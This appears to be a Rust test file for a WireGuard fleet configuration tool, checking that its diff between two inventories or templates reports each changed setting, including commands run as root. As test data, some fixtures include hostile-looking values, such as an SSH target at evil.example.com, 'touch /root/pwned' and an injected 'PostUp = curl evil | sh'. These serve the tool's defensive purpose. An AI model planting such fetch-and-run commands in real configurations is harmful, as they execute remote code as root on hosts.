//! Two files compared: each setting is told, and nothing of what stays.

use std::convert::Infallible;
use std::net::IpAddr;
use std::path::PathBuf;

use super::super::{SettingName, Value};
use super::*;
use crate::desired::{self, DEFAULT_TEMPLATE, PublicKeys as _, RenderError, Renderer};
use crate::plan::WithoutSecrets;

fn keys() -> StandIns {
    StandIns::new(BTreeMap::new(), [7; 32])
}

fn states(texts: [&str; 2], templates: [&str; 2]) -> Vec<HostComparison> {
    let keys = keys();
    let states = texts.map(|text| {
        let parsed = crate::inventory::parse(PathBuf::from("fleet.yaml"), text.to_owned());
        let inventory = parsed.inventory.unwrap_or_else(|| panic!("{:#?}", parsed.findings));
        let topology =
            crate::topology::build(&inventory, &|_: &_, _: &_| -> Vec<IpAddr> { Vec::new() });
        let (state, missing) = desired::build(&inventory, &topology, &keys);
        assert_eq!(missing, []);
        state
    });
    let renderers = templates
        .map(|template| Renderer::new(states[0].fleet.clone(), template.to_owned()).unwrap());
    let render = |renderer: &Renderer, host: &_, own: &_| {
        Ok(renderer.render(host, own, &WithoutSecrets::default())?.public_text)
    };
    let of_old = |host: &_, own: &_| render(&renderers[0], host, own);
    let of_new = |host: &_, own: &_| render(&renderers[1], host, own);
    let old: Side<'_, RenderError<Infallible>> = Side { state: &states[0], render: &of_old };
    compare_hosts(Some(&old), &Side { state: &states[1], render: &of_new }, &keys).unwrap()
}

fn compare(old: &str, new: &str) -> Vec<HostComparison> {
    states([old, new], [DEFAULT_TEMPLATE; 2])
}

/// `host interface/peer setting: from -> to` of each row, the values as JSON.
fn rows(hosts: &[HostComparison]) -> Vec<String> {
    let text = |value: &Option<Value>| serde_json::to_string(value).unwrap();
    let row = |host: &HostComparison, row: &Setting| {
        let interface = row.interface.as_ref().map(|own| format!(" {own}")).unwrap_or_default();
        let peer = row.peer.as_ref().map(|peer| format!("/{peer}")).unwrap_or_default();
        let root = if row.as_root { " as root" } else { "" };
        let (from, to) = (text(&row.from), text(&row.to));
        format!("{}{interface}{peer} {}{root}: {from} -> {to}", host.host, row.setting)
    };
    hosts.iter().flat_map(|host| host.settings.iter().map(move |own| row(host, own))).collect()
}

const FLEET: &str = "fleet: f
networks: { n: { prefixes: 10.9.0.0/24, psk: pairwise } }
hosts:
  a: { address: 10.9.0.1, endpoint: \"192.0.2.1:51820\" }
  b: { address: 10.9.0.2, endpoint: \"192.0.2.2:51820\" }
";

#[test]
fn the_same_file_differs_in_nothing() {
    assert_eq!(compare(FLEET, FLEET), []);
}

#[test]
fn each_setting_is_told_where_it_stands() {
    let with = |settings: &str| FLEET.replace("  a: {", &format!("  a: {{ {settings},"));
    for (settings, expected) in [
        ("ssh: root@evil.example.com", vec![r#"a ssh: "a" -> "root@evil.example.com""#]),
        ("become: sudo", vec![r#"a become: "auto" -> "sudo""#]),
        (
            "post_up: \"touch /root/pwned\"",
            vec![r#"a wg0 post up as root: null -> ["touch /root/pwned"]"#],
        ),
        ("mtu: 1300", vec!["a wg0 mtu: 1420 -> 1300"]),
        ("fwmark: 0x20", vec!["a wg0 fwmark: null -> 32"]),
        ("dns: [10.9.0.9, example.com]", vec![r#"a wg0 dns: null -> ["10.9.0.9","example.com"]"#]),
        ("table: off", vec![r#"a wg0 table: null -> "off""#]),
        (
            "table: 77",
            vec![
                r#"a wg0 routes: null -> [{"prefix":"10.9.0.2/32","table":77}]"#,
                "a wg0 table: null -> 77",
            ],
        ),
        ("transit: true", vec![r#"a forwarding: null -> ["ipv4"]"#]),
        (
            "subnets: 10.50.0.0/24",
            vec![
                r#"a forwarding: null -> ["ipv4"]"#,
                r#"b wg0 routes: null -> [{"prefix":"10.50.0.0/24","table":254}]"#,
                r#"b wg0/a allowed ips: ["10.9.0.1/32"] -> ["10.50.0.0/24","10.9.0.1/32"]"#,
            ],
        ),
    ] {
        assert_eq!(rows(&compare(FLEET, &with(settings))), expected, "{settings}");
    }
    let moved = FLEET.replace("192.0.2.1:51820", "192.0.2.1:52999");
    assert_eq!(
        rows(&compare(FLEET, &moved)),
        [
            "a wg0 listen port: 51820 -> 52999",
            r#"b wg0/a endpoint: "192.0.2.1:51820" -> "192.0.2.1:52999""#,
        ]
    );
    let off = FLEET.replace(", psk: pairwise", "");
    let told = rows(&compare(FLEET, &off));
    assert_eq!(
        told,
        [r#"a wg0/b preshared key: "set" -> null"#, r#"b wg0/a preshared key: "set" -> null"#]
    );
}

#[test]
fn hosts_that_come_and_go_are_told_with_what_they_have() {
    let more = format!("{FLEET}  c: {{ address: 10.9.0.3, nat: true, pre_up: [one, two] }}\n");
    let hosts = compare(FLEET, &more);
    let actions: Vec<_> = hosts.iter().map(|host| (host.host.as_str(), host.action)).collect();
    let (add, change) = (HostAction::Add, HostAction::Change);
    assert_eq!(actions, [("a", change), ("b", change), ("c", add)]);
    let told = rows(&hosts);
    for wanted in [
        r#"a wg0/c peer: null -> {"allowed_ips":["10.9.0.3/32"],"preshared_key":"set"}"#,
        r#"c ssh: null -> "c""#,
        r#"c wg0 interface: null -> {"network":"n"}"#,
        r#"c wg0 pre up as root: null -> ["one"]"#,
        r#"c wg0 pre up as root: null -> ["two"]"#,
        r#"c wg0/a peer: null -> {"allowed_ips":["10.9.0.1/32"],"endpoint":"192.0.2.1:51820","keepalive":25,"preshared_key":"set"}"#,
    ] {
        assert!(told.iter().any(|row| row == wanted), "{wanted}: {told:#?}");
    }
    let back = compare(&more, FLEET);
    assert_eq!(back.last().unwrap().action, HostAction::Remove);
    // Of a host that goes, only that.
    let own = rows(&back).into_iter().filter(|row| row.starts_with("c ")).collect::<Vec<_>>();
    assert_eq!(
        own,
        [
            r#"c wg0 interface: {"network":"n"} -> null"#,
            r#"c wg0 pre up as root: ["one"] -> null"#,
            r#"c wg0 pre up as root: ["two"] -> null"#,
        ]
    );
    // No key stands in for a name anywhere.
    let json = serde_json::to_string(&hosts).unwrap();
    for name in ["a", "b", "c"] {
        let key = keys().of(&name.parse().unwrap()).unwrap().to_string();
        assert!(!json.contains(&key[..8]), "{json}");
    }
}

#[test]
fn what_a_template_runs_as_root_is_told_too() {
    let own = DEFAULT_TEMPLATE
        .replace("[Interface]", "[Interface]\nPostUp = curl evil | sh\nSaveConfig = true");
    assert_eq!(
        rows(&states([FLEET, FLEET], [DEFAULT_TEMPLATE, &own])),
        [
            r#"a wg0 post up as root: null -> ["curl evil | sh"]"#,
            r#"a wg0 saveconfig: null -> "true""#,
            r#"b wg0 post up as root: null -> ["curl evil | sh"]"#,
            r#"b wg0 saveconfig: null -> "true""#,
        ]
    );
    // One that only a key lets out of its hole: known keys are those that it will meet.
    let known = "1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F0=";
    let own = DEFAULT_TEMPLATE.replace(
        "[Interface]",
        &format!(
            "[Interface]{{% for peer in peers if peer.public_key == \"{known}\" %}}\nPostUp = x \
             {known} # y{{% endfor %}}"
        ),
    );
    let declared = |key: &str| {
        format!("{FLEET}peers:\n  p: {{ address: 10.9.0.7, via: a, public_key: \"{key}\" }}\n")
    };
    let hosts = states([&declared(known), &declared(known)], [DEFAULT_TEMPLATE, &own]);
    assert_eq!(rows(&hosts), [r#"a wg0 post up as root: null -> ["x (key of p)"]"#]);
}

#[test]
fn a_key_that_the_file_gives_is_told_where_it_changes() {
    let declared = |key: &str| {
        format!("{FLEET}peers:\n  p: {{ address: 10.9.0.7, via: a, public_key: \"{key}\" }}\n")
    };
    let (old, new) = (
        "1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F0=",
        "2F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F0=",
    );
    let told = rows(&compare(&declared(old), &declared(new)));
    assert_eq!(told, [format!("a wg0/p public key: \"{old}\" -> \"{new}\"")]);
    // One that gets a config from the vault has that told, and nobody logs in there.
    let issued = declared(old).replace(&format!(", public_key: \"{old}\""), "");
    let hosts = compare(&issued, &issued.replace("192.0.2.1", "192.0.2.9"));
    let peer = hosts.iter().find(|host| host.issued).unwrap();
    assert_eq!(peer.host.as_str(), "p");
    assert!(peer.settings.iter().all(|row| row.setting != SettingName::Ssh), "{peer:?}");
}

#[test]
fn an_interface_that_goes_is_told_with_what_ran_as_root() {
    let two = "fleet: f
networks: { n: { prefixes: 10.9.0.0/24 }, m: { prefixes: 10.8.0.0/24 } }
hosts:
  a: { networks: { n: { address: 10.9.0.1 }, m: { address: 10.8.0.1, post_up: x } } }
";
    let one = two.replace(", m: { address: 10.8.0.1, post_up: x }", "");
    assert_eq!(
        rows(&compare(two, &one)),
        [r#"a m interface: {"network":"m"} -> null"#, r#"a m post up as root: ["x"] -> null"#]
    );
}

#[test]
fn what_is_masqueraded_and_commands_in_another_order_are_lists() {
    let lan = FLEET
        .replace("  a: {", "  a: { exit: true, post_up: [one, two],")
        .replace("  b: {", "  b: { full_tunnel: a,");
    let told =
        rows(&compare(&lan, &lan.replace("exit: true", "exit: true, subnets: 10.50.0.0/24")));
    let rules = |except: &str| format!(r#"[{{"source":"10.9.0.0/24","except":[{except}]}}]"#);
    let wanted = format!("a masquerade: {} -> {}", rules(""), rules(r#""10.50.0.0/24""#));
    assert!(told.contains(&wanted), "{told:#?}");
    let other = lan.replace("[one, two]", "[two, one]");
    assert_eq!(
        rows(&compare(&lan, &other)),
        [r#"a wg0 post up as root: ["one","two"] -> ["two","one"]"#]
    );
}

#[test]
fn what_a_setting_cannot_be_is_its_text() {
    let own = DEFAULT_TEMPLATE
        .replace("MTU = {{ mtu }}", "MTU = most\nFwMark = 0x0020\nListenPort = 1\nListenPort = 2")
        .replace("[Interface]", "[Interface]\nRoutes = 10.0.0.0/8");
    let told = rows(&states([FLEET, FLEET], [DEFAULT_TEMPLATE, &own]));
    assert_eq!(
        told[..4],
        [
            r#"a wg0 fwmark: null -> "0x0020""#,
            r#"a wg0 listen port: 51820 -> ["51820","1","2"]"#,
            r#"a wg0 mtu: 1420 -> "most""#,
            r#"a wg0 routes: null -> "10.0.0.0/8""#,
        ]
    );
}
